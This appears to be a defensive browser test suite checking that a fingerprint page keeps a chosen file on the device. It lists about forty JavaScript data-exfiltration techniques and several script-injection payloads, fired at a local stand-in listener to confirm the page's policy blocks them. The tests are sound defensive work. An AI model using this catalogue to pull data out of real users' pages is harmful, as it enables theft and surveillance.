"""P01: a file chosen on the fingerprint page never leaves the device.

In a real browser: an ordinary visit asks the network for nothing but the page, by the browser's own network log; and
code that got into the page all the same finds the ways out shut. Each way out is first shown to be one, from a page
without a policy. Moving the window itself elsewhere is outside what a policy can forbid; the last tests say so.
"""

import contextlib
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from tests.support.canary import forms
from tests.support.chromium import FLAGS, Pages, executable
from tests.support.fingerprint_page import Chosen, Listener, Served, choose, listener, say_adult, served
from zaoguang.rehearsal.photographs import photographs

pytestmark = [pytest.mark.browser, pytest.mark.slow]

NAME = "canary-file-name-5b7e.jpg"
CONTENT = photographs()[0].content


@pytest.fixture(scope="module")
def centre() -> Iterator[Served]:
    with served() as running:
        yield running


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    with listener() as listening:
        yield listening


def whole_visit(page: Page, address: str) -> str:
    page.goto(address)
    say_adult(page)
    lines = choose(page, Chosen(NAME, "image/jpeg", CONTENT))
    with page.expect_download() as saved:
        page.locator("#download").click()
    assert Path(saved.value.path()).read_text() == lines
    page.locator("#copy").click()
    page.locator("#told", has_text=re.compile(".+")).wait_for()
    return lines


def secrets(lines: str) -> list[bytes]:
    """Give what must be met nowhere: the file's name, pieces of the file, the fingerprint, however written."""
    found = json.loads(lines)
    pieces = [CONTENT[at : at + 24] for at in range(0, len(CONTENT) - 24, 997)]
    return [form for value in (NAME, found["pdq"], found["sha256"], *pieces) for form in forms(value)]


def test_a_visit_asks_the_network_for_the_page_and_nothing_else(
    browser: Browser, centre: Served, tmp_path: Path
) -> None:
    log = tmp_path / "network.json"
    flags = [*FLAGS, f"--log-net-log={log}", "--net-log-capture-mode=Everything"]
    centre.requests.clear()
    own = browser.browser_type.launch(executable_path=executable(), args=flags)
    seen: list[str] = []
    page = own.new_page()
    page.context.on("request", lambda request: seen.append(request.url))
    page.route("**/*", lambda route: route.continue_())  # what a route never sees cannot have been let through
    protocol = page.context.new_cdp_session(page)
    protocol.send("Network.enable")
    protocol.on("Network.requestWillBeSent", lambda event: seen.append(event["request"]["url"]))
    protocol.on("Network.webSocketCreated", lambda event: seen.append(event["url"]))
    lines = whole_visit(page, centre.address)
    own.close()
    ours = {address for address in seen if not address.startswith("blob:")}
    assert ours == {centre.address}
    assert len(centre.requests) == 1
    assert centre.requests[0].startswith("GET /fingerprint/?")
    logged = log.read_bytes()
    assert centre.address.encode() in logged, "the log holds what was asked"
    asked = set(re.findall(rb'"url":"((?:https?|wss?)://[^"]*)"', logged))
    assert {address for address in asked if b"127.0.0.1" in address} == {centre.address.encode()}
    everything = logged + "".join(centre.requests).encode()
    assert [secret for secret in secrets(lines) if secret in everything] == []


def test_nothing_is_kept_in_the_browser(pages: Pages, centre: Served) -> None:
    page = pages.new()
    whole_visit(page, centre.address)
    assert page.context.cookies() == []
    state = page.context.storage_state(indexed_db=True)
    assert (state["cookies"], state["origins"]) == ([], [])
    # The page has no origin of its own, so that even code that got in finds no storage and no session.
    for store in ("localStorage", "sessionStorage", "document.cookie", "indexedDB.open('x')"):
        with pytest.raises(Error, match=r"SecurityError|sandboxed|denied"):
            page.evaluate(f"() => {{ {store}; }}")


def test_the_page_is_the_same_whoever_asks(centre: Served, pages: Pages) -> None:
    page = pages.new()
    logged_in = {"Cookie": f"zg_session={'s' * 32}; zg_language=en", "Accept-Language": "ko"}
    bare = page.request.get(centre.address)
    cookied = page.request.get(centre.address, headers=logged_in)
    assert bare.body() == cookied.body()
    assert "set-cookie" not in bare.headers
    assert "set-cookie" not in cookied.headers


WAYS_OUT = {
    "fetch": "await fetch(to + '/x?data')",
    "fetch without asking": "await fetch(to, {method: 'POST', mode: 'no-cors', body: 'data'})",
    "fetch when leaving": "await fetch(to, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'data'})",
    "beacon": "navigator.sendBeacon(to, 'data')",
    "old request": "const r = new XMLHttpRequest(); r.open('GET', to); r.send()",
    "socket": "new WebSocket(to.replace('http', 'ws'))",
    "event source": "new EventSource(to)",
    "image": "new Image().src = to",
    "image set": "put('img', {srcset: to + ' 1x'})",
    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${to}' width=9 height=9/></svg>`)",
    "style sheet": "put('link', {rel: 'stylesheet', href: to})",
    "import in a style": "put('style', {textContent: `@import '${to}';`})",
    "background": "document.body.style.backgroundImage = `url(${to})`",
    "cursor": "document.body.style.cursor = `url(${to}), auto`",
    "font": "await new FontFace('x', `url(${to})`).load()",
    "script": "put('script', {src: to})",
    "module": "await import(to)",
    "frame": "put('iframe', {src: to})",
    "object": "put('object', {data: to})",
    "embed": "put('embed', {src: to})",
    "film": "put('video', {src: to, autoplay: true, muted: true})",
    "poster": "put('video', {poster: to})",
    "sound": "put('audio', {src: to, preload: 'auto'})",
    "subtitles": "put('video', {}).innerHTML = `<track default src='${to}'>`",
    "form": "Object.assign(put('form', {action: to, method: 'get'})).submit()",
    "form to a new window": "put('form', {action: to, method: 'post', target: '_blank'}).submit()",
    "manifest": "put('link', {rel: 'manifest', href: to})",
    "icon": "put('link', {rel: 'icon', href: to})",
    "prefetch": "put('link', {rel: 'prefetch', href: to})",
    "preload": "put('link', {rel: 'preload', as: 'fetch', href: to})",
    "preconnect": "put('link', {rel: 'preconnect', href: to})",
    "module preload": "put('link', {rel: 'modulepreload', href: to})",
    "speculation": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [to]}]})})",
    "ping": "const a = put('a', {href: '#x', ping: to}); a.click()",
    "worker from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
    "import in a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))",
    "new window": "window.open(to)",
    "link to a new window": "put('a', {href: to, target: '_blank'}).click()",
    "frame of another realm": "const f = put('iframe', {}); await f.contentWindow.fetch(to)",
    "frame from text": "put('iframe', {srcdoc: `<img src='${to}'>`})",
    "frame from a blob": "const b = new Blob([`<img src='${to}'>`], {type: 'text/html'});"
    "put('iframe', {src: URL.createObjectURL(b)})",
}
"""Code that got in tries to reach ``to``; ``put`` adds an element."""

TRY = """async to => {
  const put = (tag, parts) => document.body.appendChild(Object.assign(document.createElement(tag), parts));
  const run = async () => { CODE };
  await Promise.race([run(), new Promise(done => setTimeout(done, 1500))]).catch(() => null);
  await new Promise(done => setTimeout(done, 300));
}"""
"""Evaluated through the browser's own door for debuggers, which the page's policy on scripts does not bind."""

SHUT_BUT_NOT_SHOWN = {
    "manifest",
    "icon",
    "prefetch",
    "preload",
    "preconnect",
    "module preload",
    "speculation",
    "subtitles",
    "cursor",
}
"""A headless browser may put these off even without a policy; the test then has no control to compare with."""


A_CONNECTION_ONLY = {"frame", "preconnect"}
"""Here Chromium connects before it asks the policy: the other side learns that somebody is there, and no more."""


def attempt(page: Page, code: str, to: str) -> None:
    page.evaluate(TRY.replace("CODE", code), to)


@pytest.mark.parametrize("way", WAYS_OUT)
def test_attack_code_in_the_page_finds_that_way_out_shut(
    way: str, browser: Browser, pages: Pages, centre: Served, elsewhere: Listener
) -> None:
    with listener() as open_page:
        free = browser.new_context(service_workers="block").new_page()
        free.goto(open_page.address)
        with contextlib.suppress(Error):  # where there is no policy, some of them take the page itself away
            attempt(free, WAYS_OUT[way], elsewhere.address)
        free.context.close()
    shown = bool(elsewhere.heard)
    assert shown or way in SHUT_BUT_NOT_SHOWN, "the attack does not work even without a policy"
    elsewhere.heard.clear()
    page = pages.new()
    page.goto(centre.address)
    say_adult(page)
    choose(page, Chosen(NAME, "image/jpeg", CONTENT))
    attempt(page, WAYS_OUT[way], elsewhere.address)
    let_through = {"a connection"} if way in A_CONNECTION_ONLY else set()
    assert set(elsewhere.heard) <= let_through
    pages.complaints[:] = [
        each for each in pages.complaints if elsewhere.address not in each and "to fetch" not in each
    ]
    assert page.url.partition("#")[0] == centre.address


@pytest.mark.parametrize(
    "code",
    [
        "put('script', {textContent: 'window.ran = 1'})",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        "put('a', {href: 'javascript:window.ran = 1'}).click()",
        "setTimeout('window.ran = 1', 0)",
        "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 0)",
    ],
    ids=["script", "handler", "address", "timer", "eval"],
)
def test_attack_code_does_not_get_in_as_text(code: str, browser: Browser, pages: Pages, centre: Served) -> None:
    ran = "new Promise(done => setTimeout(() => done(window.ran === 1), 300))"
    with listener() as open_page:
        free = browser.new_context().new_page()
        free.goto(open_page.address)
        attempt(free, code, open_page.address)
        assert free.evaluate(ran), "the attack does not work even without a policy"
        free.context.close()
    page = pages.new()
    page.goto(centre.address)
    attempt(page, code, centre.address)
    assert not page.evaluate(ran)


def test_attack_a_call_between_browsers_is_not_there_to_be_made(pages: Pages, centre: Served) -> None:
    page = pages.new()
    page.goto(centre.address)
    gone = "['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'].filter(name => window[name] !== undefined)"
    assert page.evaluate(gone) == []
    page.evaluate("() => { try { delete window.RTCPeerConnection } catch {} }")
    assert page.evaluate(gone) == []


def test_the_page_cannot_be_framed(pages: Pages, centre: Served, elsewhere: Listener) -> None:
    page = pages.new()
    page.goto(elsewhere.address)
    attempt(page, "put('iframe', {src: to})", centre.address)
    assert all(frame.locator("#page").count() == 0 for frame in page.frames)


@pytest.mark.parametrize(
    "code",
    ["location.href = to + '/?data'", "put('meta', {httpEquiv: 'refresh', content: `0;url=${to}/?data`})"],
    ids=["location", "refresh"],
)
def test_limit_no_policy_keeps_code_that_got_in_from_moving_the_window(
    code: str, pages: Pages, centre: Served, elsewhere: Listener
) -> None:
    """What stands against it is that no code gets in; if this fails, the threat model may promise more."""
    page = pages.new()
    page.goto(centre.address)
    with contextlib.suppress(Error):  # the page that ran the code is gone
        attempt(page, code, elsewhere.address)
    assert "GET /?data" in elsewhere.heard
